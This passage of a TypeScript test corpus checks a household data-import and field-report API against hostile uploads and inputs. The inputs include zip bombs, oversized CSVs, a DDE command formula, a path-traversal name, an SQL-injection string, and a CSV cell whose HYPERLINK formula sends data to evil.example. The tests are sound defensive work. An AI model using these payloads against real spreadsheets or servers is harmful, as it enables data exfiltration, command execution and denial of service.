      'a CSV of 1,000,000 rows (past IMPORT_MAX_ROWS, under the size limit): not stored, not processed',
      upload('pingshanAdmin', (intake) => [
        ...fields(),
        fileOf(
          '排查.csv',
          memo('million', () => csvOfManyRows(household(intake), 1_000_000)),
        ),
      ]),
    ),
    message: /200,?000|行/,
  });
  add({
    ...refusedUpload(
      'a CSV of 1,000,000 rows with CR line ends (as old Mac Excel saves): not stored, not processed',
      upload('pingshanAdmin', (intake) => [
        ...fields(),
        fileOf(
          '排查.csv',
          memo('million-cr', () => csvOfManyRows(household(intake), 1_000_000, '\r')),
        ),
      ]),
    ),
    message: /200,?000|行/,
    last: true,
  });
  add({
    ...refusedUpload(
      'a shared-strings bomb under the inflate budget (.xlsx of 0.2 MB: 12 million one-letter strings a caching reader holds)',
      upload('pingshanAdmin', (intake) => [
        ...fields(),
        fileOf(
          '排查.xlsx',
          memo('bomb-sharedStrings', () => zipBomb(household(intake), 'sharedStrings', [], 200)),
        ),
      ]),
    ),
    last: true,
  });
  for (const shape of ['whitespace', 'rows', 'lying', 'styles', 'secondSheetFirst'] as const) {
    add({
      ...refusedUpload(
        `a zip bomb (.xlsx of ~1 MB, a part inflating to ~1 GiB: ${shape})`,
        upload('pingshanAdmin', (intake) => [
          ...fields(),
          fileOf(
            '排查.xlsx',
            memo(`bomb-${shape}`, () => zipBomb(household(intake), shape)),
          ),
        ]),
      ),
      // Those the pre-scan lets through keep the server busy reading them: at the end.
      ...(shape === 'styles' || shape === 'secondSheetFirst' ? { last: true } : {}),
    });
  }
  const nameHeader = (intake: IntakeFixtures) => headerLike(intake, /户主.*姓名|户主$/);
  for (const [label, file] of [
    ['=1+1', 'formulaSum'],
    ['=HYPERLINK(…)', 'formulaHyperlink'],
    ["=cmd|' /C calc'!A0 (DDE)", 'formulaDde'],
  ] as const) {
    add({
      category: 'intake: formulas',
      name: `an .xlsx whose head-name cell is the formula ${label}: the cached value is not trusted`,
      request: upload('pingshanAdmin', (intake) => [...fields(), fileOf('排查.xlsx', intake.files[file])]),
      code: 'OK',
      status: 201,
      mayTouch: TAKEN_UPLOAD_TABLES,
      mayStore: true,
      settle: refusesTheCell(2, nameHeader, /公式/),
    });
  }
  add(failedCheck('an .xlsx whose header row has merged cells (户编号 over A1:B1)', '排查.xlsx', (intake) => intake.files.mergedHeader, /第1行.*合并单元格/));
  add(
    failedCheck(
      'a CSV with a quote that never closes',
      '排查.csv',
      (intake) => Buffer.concat([csvFile(household(intake), []), Buffer.from('"张三,未闭合的引号\r\n李四,x\r\n')]),
      /引号/,
    ),
  );

  // What the file's cells say comes back in the report: a cell a spreadsheet would run is written so that it does not.
  add({
    category: 'intake: report injection',
    name: 'a CSV whose cells start with = + - @: its report.csv does not hand them to Excel as formulas',
    request: upload('pingshanAdmin', (intake) => [...fields(), fileOf('注入.csv', intake.injectionCsv)]),
    code: 'OK',
    status: 201,
    mayTouch: TAKEN_UPLOAD_TABLES,
    mayStore: true,
    settle: reportNeutralisesFormulas,
  });
  // Templates and reports.
  const get =
    (as: IntakeIdentity, path: string | ((intake: IntakeFixtures) => string)): IntakeCase['request'] =>
    (intake) => ({
      as,
      method: 'GET',
      path: typeof path === 'string' ? path : path(intake),
    });
  for (const [label, path] of [
    ['an unknown kind', '/imports/templates/NOPE.xlsx'],
    ['a lower-case kind', '/imports/templates/households.xlsx'],
    ['a kind with a path in it', `/imports/templates/${encodeURIComponent('../../package.json')}`],
    ['a .csv template (templates are .xlsx)', '/imports/templates/HOUSEHOLDS.csv'],
  ] as const) {
    add({ category: 'intake: template', name: `GET a template of ${label}`, request: get('pingshanAdmin', path), code: 'NOT_FOUND', status: 404 });
  }
  for (const [as, code, status] of [
    ['none', 'UNAUTHENTICATED', 401],
    ['cadre', 'FORBIDDEN', 403],
    ['analyst', 'FORBIDDEN', 403],
  ] as const) {
    add({ category: 'intake: template', name: `GET the households template as ${as}`, request: get(as, '/imports/templates/HOUSEHOLDS.xlsx'), code, status });
  }
  // A report of an import out of reach is answered as one that does not exist (404, imports.routes.ts);
  // a path whose id is no id names no import either — answered the same, as a JSON problem.
  for (const [label, id] of BAD_PATH_IDS) {
    add({
      category: 'intake: report',
      name: `GET /imports/<${label}>/report.xlsx`,
      request: get('pingshanAdmin', `/imports/${id}/report.xlsx`),
      code: 'NOT_FOUND',
      status: 404,
    });
  }
  add({
    category: 'intake: report',
    name: "GET the report of the city administrator's import as the district administrator",
    request: get('pingshanAdmin', (intake) => `/imports/${intake.cityImportId}/report.xlsx`),
    code: 'NOT_FOUND',
    status: 404,
  });
  add({
    category: 'intake: report',
    name: "GET the CSV report of the city administrator's import as the district administrator",
    request: get('pingshanAdmin', (intake) => `/imports/${intake.cityImportId}/report.csv`),
    code: 'NOT_FOUND',
    status: 404,
  });
  add({
    category: 'intake: report',
    name: 'GET the report of an import that does not exist (answered as one out of reach: 404)',
    request: get('pingshanAdmin', '/imports/987654321/report.xlsx'),
    code: 'NOT_FOUND',
    status: 404,
  });
  for (const [as, code, status] of [
    ['none', 'UNAUTHENTICATED', 401],
    ['cadre', 'FORBIDDEN', 403],
    ['analyst', 'FORBIDDEN', 403],
  ] as const) {
    add({
      category: 'intake: report',
      name: `GET a report as ${as}`,
      request: get(as, (intake) => `/imports/${intake.ownImportId}/report.xlsx`),
      code,
      status,
    });
  }

  // GraphQL: ids, scope, roles, states, row numbers, pages.
  const gql =
    (as: IntakeIdentity, query: string, variables: (intake: IntakeFixtures) => Record<string, unknown> = () => ({})): IntakeCase['request'] =>
    (intake) => ({ as, query, variables: variables(intake) });
  const WITH_IMPORT_ID: { name: string; field: string; request: (id: string) => IntakeCase['request'] }[] = [
    { name: 'dataImport(id)', field: 'id', request: (id) => gql('pingshanAdmin', DATA_IMPORT, () => ({ id })) },
    { name: 'commitImport(input.importId)', field: 'input.importId', request: (id) => gql('pingshanAdmin', COMMIT, () => ({ input: { importId: id } })) },
    { name: 'cancelImport(input.importId)', field: 'input.importId', request: (id) => gql('pingshanAdmin', CANCEL, () => ({ input: { importId: id } })) },
    {
      name: 'acceptImportWarnings(input.importId)',
      field: 'input.importId',
      request: (id) => gql('pingshanAdmin', ACCEPT, () => ({ input: { importId: id, all: true } })),
    },
  ];
  for (const operation of WITH_IMPORT_ID) {
    for (const [label, id] of BAD_IDS) {
      add({
        category: 'intake: invalid id',
        name: `${operation.name} with a ${label} id`,
        request: operation.request(id),
        code: 'BAD_USER_INPUT',
        field: operation.field,
      });
    }
    add({
      category: 'intake: missing object',
      name: `${operation.name} with an id that does not exist`,
      request: operation.request('987654321'),
      code: 'FORBIDDEN',
    });
  }
  const cityImport = (query: string, input: (intake: IntakeFixtures) => Record<string, unknown>) =>
    gql('pingshanAdmin', query, (intake) => ({ input: input(intake) }));
  add({
    category: 'intake: scope',
    name: "dataImport of the city administrator's import as the district administrator",
    request: gql('pingshanAdmin', DATA_IMPORT, (intake) => ({ id: intake.cityImportId })),
    code: 'FORBIDDEN',
  });
  add({
    category: 'intake: scope',
    name: "commitImport of the city administrator's import as the district administrator",
    request: cityImport(COMMIT, (intake) => ({ importId: intake.cityImportId })),
    code: 'FORBIDDEN',
  });
  add({
    category: 'intake: scope',
    name: "cancelImport of the city administrator's import as the district administrator",
    request: cityImport(CANCEL, (intake) => ({ importId: intake.cityImportId })),
    code: 'FORBIDDEN',
  });
  add({
    category: 'intake: scope',
    name: "acceptImportWarnings on the city administrator's import as the district administrator",
    request: cityImport(ACCEPT, (intake) => ({ importId: intake.cityImportId, all: true })),
    code: 'FORBIDDEN',
  });
  for (const [as, code] of [
    ['none', 'UNAUTHENTICATED'],
    ['cadre', 'FORBIDDEN'],
    ['analyst', 'FORBIDDEN'],
  ] as const) {
    add({ category: 'intake: who', name: `dataImport as ${as}`, request: gql(as, DATA_IMPORT, (intake) => ({ id: intake.ownImportId })), code });
    add({ category: 'intake: who', name: `dataImports as ${as}`, request: gql(as, '{ dataImports(first: 5) { totalCount } }'), code });
    add({ category: 'intake: who', name: `importTemplates as ${as}`, request: gql(as, '{ importTemplates { kind } }'), code });
    add({ category: 'intake: who', name: `commitImport as ${as}`, request: gql(as, COMMIT, (intake) => ({ input: { importId: intake.ownImportId } })), code });
    add({ category: 'intake: who', name: `cancelImport as ${as}`, request: gql(as, CANCEL, (intake) => ({ input: { importId: intake.ownImportId } })), code });
    add({
      category: 'intake: who',
      name: `acceptImportWarnings as ${as}`,
      request: gql(as, ACCEPT, (intake) => ({ input: { importId: intake.ownImportId, all: true } })),
      code,
    });
  }
  // A cancelled import is done with: no commit, no acceptance, no second cancel.
  for (const [name, query, extra] of [
    ['commitImport', COMMIT, {}],
    ['cancelImport', CANCEL, {}],
    ['acceptImportWarnings', ACCEPT, { all: true }],
  ] as const) {
    add({
      category: 'intake: state',
      name: `${name} of a cancelled import`,
      request: gql('pingshanAdmin', query, (intake) => ({ input: { importId: intake.cancelledImportId, ...extra } })),
      code: 'CONFLICT',
      message: /CANCELLED|取消/,
    });
  }
  // Row numbers: rows of this import with a warning, never an error, never a row that is not there.
  const acceptRows = (rowNumbers: (intake: IntakeFixtures) => unknown) =>
    gql('pingshanAdmin', ACCEPT, (intake) => ({ input: { importId: intake.ownImportId, rowNumbers: rowNumbers(intake) } }));
  add({
    category: 'intake: row numbers',
    name: 'acceptImportWarnings with no rows and not all',
    request: acceptRows(() => []),
    code: 'BAD_USER_INPUT',
    field: 'input.rowNumbers',
  });
  add({
    category: 'intake: row numbers',
    name: 'acceptImportWarnings with neither rowNumbers nor all',
    request: gql('pingshanAdmin', ACCEPT, (intake) => ({ input: { importId: intake.ownImportId } })),
    code: 'BAD_USER_INPUT',
    field: 'input.rowNumbers',
  });
  add({
    category: 'intake: row numbers',
    name: 'acceptImportWarnings with all: false and no rows',
    request: gql('pingshanAdmin', ACCEPT, (intake) => ({ input: { importId: intake.ownImportId, all: false } })),
    code: 'BAD_USER_INPUT',
    field: 'input.rowNumbers',
  });
  // Row numbers below 1: the input's own check (class-validator's `each`), which names the list.
  for (const [label, row] of [
    ['row 0', 0],
    ['row -1', -1],
  ] as const) {
    add({
      category: 'intake: row numbers',
      name: `acceptImportWarnings of ${label}`,
      request: acceptRows(() => [row]),
      code: 'BAD_USER_INPUT',
      field: 'input.rowNumbers',
    });
  }
  // A row the service looks up names its place in the list (docs/architecture.md's field convention).
  for (const [label, row] of [
    ['the header row (1)', 1],
    ['a row past the end of the file', 999_999],
  ] as const) {
    add({
      category: 'intake: row numbers',
      name: `acceptImportWarnings of ${label}`,
      request: acceptRows(() => [row]),
      code: 'BAD_USER_INPUT',
      field: 'input.rowNumbers.0',
    });
  }
  add({
    category: 'intake: row numbers',
    name: 'acceptImportWarnings of a row with an error (errors cannot be accepted)',
    request: acceptRows((intake) => [intake.ownErrorRow]),
    code: 'BAD_USER_INPUT',
    field: 'input.rowNumbers.0',
  });
  add({
    category: 'intake: row numbers',
    name: 'acceptImportWarnings of a warning row and then a row with an error: nothing accepted',
    request: acceptRows((intake) => [intake.ownWarningRow, intake.ownErrorRow]),
    code: 'BAD_USER_INPUT',
    field: 'input.rowNumbers.1',
  });
  add({
    category: 'intake: row numbers',
    name: 'acceptImportWarnings of 100,001 rows',
    request: acceptRows(() => Array.from({ length: 100_001 }, (_value, index) => index + 2)),
    code: 'BAD_USER_INPUT',
    field: 'input.rowNumbers',
  });
  add({
    category: 'intake: row numbers',
    name: 'acceptImportWarnings of row 2^31 (not an Int)',
    request: acceptRows(() => [2 ** 31]),
    code: 'BAD_USER_INPUT',
    status: 400,
    field: 'input.rowNumbers.0',
  });
  add({
    category: 'intake: row numbers',
    name: 'acceptImportWarnings of row "2" (a string)',
    request: acceptRows(() => ['2']),
    code: 'BAD_USER_INPUT',
    status: 400,
    field: 'input.rowNumbers.0',
  });
  // Pages and filters.
  for (const first of [0, -5, 101]) {
    add({
      category: 'intake: page size',
      name: `dataImports first ${first}`,
      request: gql('pingshanAdmin', 'query ($first: Int) { dataImports(first: $first) { totalCount } }', () => ({ first })),
      code: 'BAD_USER_INPUT',
      field: 'first',
    });
    add({
      category: 'intake: page size',
      name: `DataImport.problems first ${first}`,
      request: gql('pingshanAdmin', 'query ($id: ID!, $first: Int) { dataImport(id: $id) { problems(first: $first) { totalCount } } }', (intake) => ({
        id: intake.ownImportId,
        first,
      })),
      code: 'BAD_USER_INPUT',
      field: 'first',
    });
  }
  for (const [label, cursor] of BAD_CURSORS) {
    add({
      category: 'intake: cursor',
      name: `dataImports after ${label}`,
      request: gql('pingshanAdmin', 'query ($after: String) { dataImports(first: 2, after: $after) { totalCount } }', () => ({ after: cursor })),
      code: 'BAD_USER_INPUT',
      field: 'after',
    });
    add({
      category: 'intake: cursor',
      name: `DataImport.problems after ${label}`,
      request: gql(
        'pingshanAdmin',
        'query ($id: ID!, $after: String) { dataImport(id: $id) { problems(first: 2, after: $after) { totalCount } } }',
        (intake) => ({
          id: intake.ownImportId,
          after: cursor,
        }),
      ),
      code: 'BAD_USER_INPUT',
      field: 'after',
    });
  }
  add({
    category: 'intake: enum',
    name: 'DataImport.problems severity FATAL in the document',
    request: gql('pingshanAdmin', 'query ($id: ID!) { dataImport(id: $id) { problems(severity: FATAL) { totalCount } } }', (intake) => ({
      id: intake.ownImportId,
    })),
    code: 'GRAPHQL_VALIDATION_FAILED',
  });
  add({
    category: 'intake: enum',
    name: 'DataImport.problems severity "error" (lower case) in variables',
    request: gql(
      'pingshanAdmin',
      'query ($id: ID!, $s: ImportProblemSeverity) { dataImport(id: $id) { problems(severity: $s) { totalCount } } }',
      (intake) => ({
        id: intake.ownImportId,
        s: 'error',
      }),
    ),
    code: 'BAD_USER_INPUT',
    status: 400,
    field: 'severity',
  });
  return cases;
}

// --- the fixtures, made through the API -------------------------------------------------------------

export interface IntakeClient extends IntakeProbe {
  /** POST /imports as one of the corpus's identities. */
  upload(as: IntakeIdentity, parts: MultipartPart[]): Promise<{ status: number; json: unknown; text: string }>;
}

let idSequence = 0;
/** A valid ID number of someone born in 平山区 (210502) on the given day, not used before in this run. */
export function freshIdNumber(birth = '19650315'): string {
  idSequence += 1;
  const first17 = `210502${birth}${String((process.pid + idSequence * 7) % 1000).padStart(3, '0')}`;
  return `${first17}${idNumberCheckCharacter(first17)}`;
}

interface Person {
  code: string;
  headName: string;
  address: string;
  village: string;
  idNumber: string;
}

/** A row of the households template for a one-person household, by the template's own headers. */
export function householdRow(columns: TemplateColumn[], person: Person): string[] {
  const birth = `${person.idNumber.slice(6, 10)}-${person.idNumber.slice(10, 12)}-${person.idNumber.slice(12, 14)}`;
  const byHeader: Record<string, string> = {
    户编号: person.code,
    户主姓名: person.headName,
    户主身份证号: person.idNumber,
    地址: person.address,
    '所在村(社区)': person.village,
    联系电话: '13904141234',
    帮扶类别: '困难家庭',
    困难原因: '因病',
    姓名: person.headName,
    与户主关系: '户主',
    性别: Number(person.idNumber[16]) % 2 === 1 ? '男' : '女',
    身份证号: person.idNumber,
    出生日期: birth,
    重点关注原因: '',
    是否信访人: '否',
  };
  return columns.map((column) => byHeader[column.header] ?? column.example);
}

async function villageUnder(probe: IntakeProbe, districtId: string): Promise<string> {
  const children = async (id: string) => {
    const answer = await probe.graphql<{ regions: { id: string; code: string; level: string }[] }>(
      'admin',
      'query ($id: ID) { regions(parentId: $id) { id code level } }',
      { id },
    );
    return answer.data!.regions;
  };
  for (const township of await children(districtId)) {
    const village = (await children(township.id)).find((region) => region.level === 'VILLAGE' || region.level === 'COMMUNITY');
    if (village) return village.code;
  }
  throw new Error(`no village under region ${districtId}`);
}

async function uploadChecked(client: IntakeClient, as: IntakeIdentity, filename: string, data: Buffer): Promise<string> {
  const answer = await client.upload(as, [...fields(), fileOf(filename, data)]);
  if (answer.status !== 201) throw new Error(`set-up upload refused (${answer.status}): ${answer.text.slice(0, 400)}`);
  const id = uploadedId(answer);
  const view = await settledImport(client, as, id);
  if (view.state !== 'CHECKED') throw new Error(`set-up import ${id} ended ${view.state}: ${view.failure}`);
  return id;
}

/**
 * Makes the imports the intake cases aim at: the district administrator's checked import with a
 * warning row and an error row, one of its imports cancelled, and the city administrator's import of
 * a 溪湖区 household (out of the district administrator's reach).
 */
export async function discoverIntakeFixtures(client: IntakeClient, ids: { pingshanRegionId: string; xihuRegionId: string }): Promise<IntakeFixtures> {
  // The households template as an office downloads it: its header row, and its example row below.
  // (Not from importTemplates: `{ importTemplates { columns { … } } }` is priced past the cost limit, review.md.)
  const template = await client.get('admin', '/imports/templates/HOUSEHOLDS.xlsx');
  if (template.status !== 200) throw new Error(`the households template answered ${template.status}: ${template.body.toString('utf8').slice(0, 300)}`);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(template.body as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0]!;
  const texts = (row: number) => (sheet.getRow(row).values as unknown[]).slice(1).map((value) => (value === null || value === undefined ? '' : String(value)));
  const headerTexts = texts(1);
  const exampleTexts = texts(2);
  const households: TemplateColumn[] = headerTexts.map((header, index) => ({ header, required: false, example: exampleTexts[index] ?? '' }));
  const header = households.map((column) => column.header);
  const pingshanVillage = await villageUnder(client, ids.pingshanRegionId);
  const xihuVillage = await villageUnder(client, ids.xihuRegionId);
  const tag = (process.pid % 10_000).toString();
  const person = (code: string, headName: string, village: string, address = `语料路${code}号`): Person => ({
    code: `AS-${tag}-${code}`,
    headName,
    address,
    village,
    idNumber: freshIdNumber(),
  });
  const good = householdRow(households, person('1', '语料甲', pingshanVillage));
  const goodCsv = csvFile(header, [good]);
  // Row 2 and row 3: the same head name at the same address, two ID numbers (a likely duplicate: a warning).
  // Row 4: an ID number whose check digit is wrong (an error).
  const twin = person('3', '语料乙', pingshanVillage, '语料路2号');
  const wrongDigit = person('4', '语料丙', pingshanVillage);
  const last = wrongDigit.idNumber.slice(-1);
  wrongDigit.idNumber = `${wrongDigit.idNumber.slice(0, 17)}${last === '0' ? '1' : '0'}`;
  const ownCsv = csvFile(header, [
    householdRow(households, person('2', '语料乙', pingshanVillage, '语料路2号')),
    householdRow(households, twin),
    householdRow(households, wrongDigit),
  ]);
  const ownImportId = await uploadChecked(client, 'pingshanAdmin', '语料排查表.csv', ownCsv);
  const cancelledImportId = await uploadChecked(
    client,
    'pingshanAdmin',
    '语料取消.csv',
    csvFile(header, [householdRow(households, person('5', '语料丁', pingshanVillage))]),
  );
  const cancelled = await client.graphql('pingshanAdmin', 'mutation ($input: CancelImportInput!) { cancelImport(input: $input) { id state } }', {
    input: { importId: cancelledImportId },
  });
  if (cancelled.errors?.length) throw new Error(`set-up cancel failed: ${JSON.stringify(cancelled.errors)}`);
  const cityImportId = await uploadChecked(client, 'admin', '市级排查表.csv', csvFile(header, [householdRow(households, person('6', '语料戊', xihuVillage))]));
  const problems = await client.graphql<{ dataImport: { problems: { nodes: { rowNumber: number; severity: string }[] } } }>('pingshanAdmin', IMPORT_PROBLEMS, {
    id: ownImportId,
  });
  const nodes = problems.data?.dataImport.problems.nodes ?? [];
  if (!nodes.some((node) => node.rowNumber === 3 && node.severity === 'WARNING') || !nodes.some((node) => node.rowNumber === 4 && node.severity === 'ERROR')) {
    throw new Error(`the set-up import's problems are not as planned: ${JSON.stringify(nodes)}`);
  }
  const injected = person('7', '语料注入', pingshanVillage);
  const injectionRows = [
    householdRow(households, { ...injected, address: '=HYPERLINK("http://evil.example/?d="&A2,"点此查看")' }),
    householdRow(households, { ...person('8', "+1+cmd|' /C calc'!A0", pingshanVillage), address: '@SUM(1+1)' }),
    householdRow(households, { ...person('9', '-2+3', pingshanVillage), address: '\t=1+1' }),
  ];
  const injectionCsv = csvFile(header, injectionRows);
  return {
    households,
    goodCsv,
    cityImportId,
    ownImportId,
    ownErrorRow: 4,
    ownWarningRow: 3,
    cancelledImportId,
    files: await buildIntakeFiles(households, good),
    injectionCsv,
  };
}

// --- field reports (issue 16): a cadre's report, the administrators' decision ------------------------

/** A signed-in cadre's reports, made before the corpus runs: one pending, one already rejected. */
export interface FieldReportFixtures {
  /** PHONE_CHANGED on the signed-in cadre's own household, still pending; its clientId. */
  pendingId: string;
  pendingClientId: string;
  /** Rejected by the city's administrator: decided, it cannot be decided or withdrawn again. */
  decidedId: string;
}

/** What the field-report cases need of the corpus's fixtures. */
export interface FieldReportTargets {
  ownHouseholdId: string;
  ownHouseholdVersion: number;
  ownResidentId: string;
  otherHouseholdId: string;
  otherResidentId: string;
  otherRecordId: string;
  cityRegionId: string;
  xihuRegionId: string;
  fieldReports: FieldReportFixtures;
}

export interface FieldReportCase {
  category: string;
  name: string;
  request: (targets: FieldReportTargets) => IntakeRequest;
  code: 'OK' | 'BAD_USER_INPUT' | 'UNAUTHENTICATED' | 'FORBIDDEN' | 'CONFLICT';
  status?: number;
  field?: string;
}

const REPORT = 'mutation ($input: ReportFieldChangeInput!) { reportFieldChange(input: $input) { id status } }';
const WITHDRAW = 'mutation ($input: WithdrawFieldReportInput!) { withdrawFieldReport(input: $input) { id status } }';
const APPROVE = 'mutation ($input: ApproveFieldReportInput!) { approveFieldReport(input: $input) { id status } }';
const REJECT = 'mutation ($input: RejectFieldReportInput!) { rejectFieldReport(input: $input) { id status } }';

let reportSequence = 0;
function reportClientId(): string {
  reportSequence += 1;
  return `fr-corpus-${process.pid}-${Date.now().toString(36)}-${reportSequence}`;
}

/** Today in Asia/Shanghai, `days` from now. */
function day(days = 0): string {
  return new Date(Date.now() + 8 * 3_600_000 + days * 86_400_000).toISOString().slice(0, 10);
}

/** A valid ID number with the wrong check digit. */
function wrongCheckDigit(idNumber: string): string {
  const last = idNumber.slice(-1);
  return `${idNumber.slice(0, 17)}${last === '0' ? '1' : '0'}`;
}

export function fieldReportCorpus(): FieldReportCase[] {
  const cases: FieldReportCase[] = [];
  const add = (entry: FieldReportCase) => cases.push(entry);
  const report =
    (as: IntakeIdentity, input: (targets: FieldReportTargets) => Record<string, unknown>) =>
    (targets: FieldReportTargets): IntakeRequest => ({ as, query: REPORT, variables: { input: { clientId: reportClientId(), ...input(targets) } } });
  const phone = (targets: FieldReportTargets, extra: Record<string, unknown> = {}) => ({
    kind: 'PHONE_CHANGED',
    householdId: targets.ownHouseholdId,
    phone: '13904149876',
    ...extra,
  });
  const bad = (name: string, request: FieldReportCase['request'], field: string, status?: number) =>
    add({ category: 'field report: input', name, request, code: 'BAD_USER_INPUT', field, ...(status ? { status } : {}) });

  // Who reports: a cadre, on a household it looks after.
  add({ category: 'field report: who', name: 'reportFieldChange without signing in', request: report('none', (t) => phone(t)), code: 'UNAUTHENTICATED' });
  add({ category: 'field report: who', name: 'reportFieldChange as an administrator', request: report('admin', (t) => phone(t)), code: 'FORBIDDEN' });
  add({ category: 'field report: who', name: 'reportFieldChange as the analyst', request: report('analyst', (t) => phone(t)), code: 'FORBIDDEN' });
  add({
    category: 'field report: who',
    name: "reportFieldChange on another cadre's household",
    request: report('cadre', (t) => phone(t, { householdId: t.otherHouseholdId })),
    code: 'FORBIDDEN',
  });
  add({
    category: 'field report: who',
    name: 'reportFieldChange on a household that does not exist',
    request: report('cadre', (t) => phone(t, { householdId: '987654321' })),
    code: 'FORBIDDEN',
  });

  // clientIds and ids.
  for (const [label, clientId] of [
    ['empty', ''],
    ['7 characters', 'abc1234'],
    ['65 characters', 'a'.repeat(65)],
    ['a space', 'field report id'],
    ['Chinese characters', '客户端编号一二三四五'],
  ] as const) {
    bad(
      `reportFieldChange with a clientId of ${label}`,
      (t) => ({ as: 'cadre', query: REPORT, variables: { input: { ...phone(t), clientId } } }),
      'input.clientId',
    );
  }
  add({
    category: 'field report: clientId',
    name: 'reportFieldChange with the clientId of a pending report and another phone',
    request: (t) => ({ as: 'cadre', query: REPORT, variables: { input: { ...phone(t, { phone: '13904140001' }), clientId: t.fieldReports.pendingClientId } } }),
    code: 'CONFLICT',
    field: 'input.clientId',
  });
  for (const [label, id] of BAD_IDS) {
    bad(
      `reportFieldChange with a ${label} householdId`,
      report('cadre', (t) => phone(t, { householdId: id })),
      'input.householdId',
    );
  }
  bad(
    'reportFieldChange with a member of another household',
    report('cadre', (t) => ({ kind: 'MEMBER_MOVED_OUT', householdId: t.ownHouseholdId, residentId: t.otherResidentId, leftOn: day(-3) })),
    'input.residentId',
  );
  bad(
    'reportFieldChange with a residentId of letters',
    report('cadre', (t) => ({ kind: 'MEMBER_DIED', householdId: t.ownHouseholdId, residentId: 'abc', leftOn: day(-3) })),
    'input.residentId',
  );
  bad(
    "reportFieldChange linking another cadre's help record",
    report('cadre', (t) => phone(t, { helpRecordId: t.otherRecordId })),
    'input.helpRecordId',
  );

  // What each kind needs.
  bad(
    'PHONE_CHANGED without a phone',
    report('cadre', (t) => phone(t, { phone: null })),
    'input.phone',
  );
  bad(
    'PHONE_CHANGED to "123"',
    report('cadre', (t) => phone(t, { phone: '123' })),
    'input.phone',
  );
  bad(
    'PHONE_CHANGED to an SQL phone',
    report('cadre', (t) => phone(t, { phone: "1' OR '1'='1" })),
    'input.phone',
  );
  bad(
    'PHONE_CHANGED without a householdId',
    report('cadre', (t) => phone(t, { householdId: null })),
    'input.householdId',
  );
  const born = (t: FieldReportTargets, extra: Record<string, unknown> = {}) => ({
    kind: 'MEMBER_BORN',
    householdId: t.ownHouseholdId,
    name: '语料新生',
    gender: 'FEMALE',
    birthDate: day(-30),
    ...extra,
  });
  bad(
    'MEMBER_BORN without a name',
    report('cadre', (t) => born(t, { name: null })),
    'input.name',
  );
  bad(
    'MEMBER_BORN with a 65-character name',
    report('cadre', (t) => born(t, { name: '新'.repeat(65) })),
    'input.name',
  );
  bad(
    'MEMBER_BORN with a NUL in the name',
    report('cadre', (t) => born(t, { name: '语料\u0000新生' })),
    'input.name',
  );
  bad(
    'MEMBER_BORN without a gender',
    report('cadre', (t) => born(t, { gender: null })),
    'input.gender',
  );
  bad(
    'MEMBER_BORN without a birth date',
    report('cadre', (t) => born(t, { birthDate: null })),
    'input.birthDate',
  );
  bad(
    'MEMBER_BORN born tomorrow',
    report('cadre', (t) => born(t, { birthDate: day(1) })),
    'input.birthDate',
  );
  bad(
    'MEMBER_BORN born on 30 February',
    report('cadre', (t) => born(t, { birthDate: '2026-02-30' })),
    'input.birthDate',
    400,
  );
  bad(
    'MEMBER_BORN with an ID number whose check digit is wrong',
    report('cadre', (t) => born(t, { idNumber: wrongCheckDigit(freshIdNumber(day(-30).replace(/-/g, ''))) })),
    'input.idNumber',
  );
  bad(
    'MEMBER_BORN with an ID number of another birth date',
    report('cadre', (t) => born(t, { idNumber: freshIdNumber('20150101') })),
    'input.idNumber',
  );
  bad(
    'MEMBER_BORN with a gender in lower case',
    report('cadre', (t) => born(t, { gender: 'female' })),
    'input.gender',
    400,
  );
  bad(
    'MEMBER_DIED without the member',
    report('cadre', (t) => ({ kind: 'MEMBER_DIED', householdId: t.ownHouseholdId, leftOn: day(-3) })),
    'input.residentId',
  );
  bad(
    'MEMBER_DIED tomorrow',
    report('cadre', (t) => ({ kind: 'MEMBER_DIED', householdId: t.ownHouseholdId, residentId: t.ownResidentId, leftOn: day(1) })),
    'input.leftOn',
  );
  bad(
    'MEMBER_MOVED_OUT in 1899',
    report('cadre', (t) => ({ kind: 'MEMBER_MOVED_OUT', householdId: t.ownHouseholdId, residentId: t.ownResidentId, leftOn: '1899-12-31' })),
    'input.leftOn',
  );
  const moved = (t: FieldReportTargets, extra: Record<string, unknown> = {}) => ({
    kind: 'HOUSEHOLD_MOVED',
    householdId: t.ownHouseholdId,
    address: '语料新址8号',
    ...extra,
  });
  bad(
    'HOUSEHOLD_MOVED with a 256-character address',
    report('cadre', (t) => moved(t, { address: '址'.repeat(256) })),
    'input.address',
  );
  bad(
    'HOUSEHOLD_MOVED with a 100,000-character address',
    report('cadre', (t) => moved(t, { address: 'x'.repeat(100_000) })),
    'input.address',
  );
  bad(
    'HOUSEHOLD_MOVED with an address of spaces',
    report('cadre', (t) => moved(t, { address: '   ' })),
    'input.address',
  );
  bad(
    'HOUSEHOLD_MOVED with an ESC in the address',
    report('cadre', (t) => moved(t, { address: '语料\u001b新址' })),
    'input.address',
  );
  bad(
    'HOUSEHOLD_MOVED to the city (not a village)',
    report('cadre', (t) => moved(t, { regionId: t.cityRegionId })),
    'input.regionId',
  );
  bad(
    'HOUSEHOLD_MOVED to a region of letters',
    report('cadre', (t) => moved(t, { regionId: 'abc' })),
    'input.regionId',
  );
  const fresh = (t: FieldReportTargets, extra: Record<string, unknown> = {}) => ({
    kind: 'NEW_HOUSEHOLD',
    regionId: t.cityRegionId,
    address: '语料新户1号',
    headName: '语料新户',
    targetGroups: ['HARDSHIP'],
    ...extra,
  });
  bad(
    'NEW_HOUSEHOLD naming a household',
    report('cadre', (t) => fresh(t, { householdId: t.ownHouseholdId })),
    'input.householdId',
  );
  bad(
    'NEW_HOUSEHOLD without a village',
    report('cadre', (t) => fresh(t, { regionId: null })),
    'input.regionId',
  );
  bad(
    'NEW_HOUSEHOLD in the city (not a village)',
    report('cadre', (t) => fresh(t)),
    'input.regionId',
  );
  bad(
    'NEW_HOUSEHOLD with no target group',
    report('cadre', (t) => fresh(t, { targetGroups: [] })),
    'input.targetGroups',
  );
  bad(
    'NEW_HOUSEHOLD with the same target group twice',
    report('cadre', (t) => fresh(t, { targetGroups: ['HARDSHIP', 'HARDSHIP'] })),
    'input.targetGroups',
  );
  bad(
    'NEW_HOUSEHOLD with target group NOPE',
    report('cadre', (t) => fresh(t, { targetGroups: ['NOPE'] })),
    'input.targetGroups.0',
    400,
  );
  bad(
    'a report of kind DELETE_HOUSEHOLD',
    report('cadre', (t) => phone(t, { kind: 'DELETE_HOUSEHOLD' })),
    'input.kind',
    400,
  );
  bad(
    'a report with a 501-character note',
    report('cadre', (t) => phone(t, { note: '注'.repeat(501) })),
    'input.note',
  );
  bad(
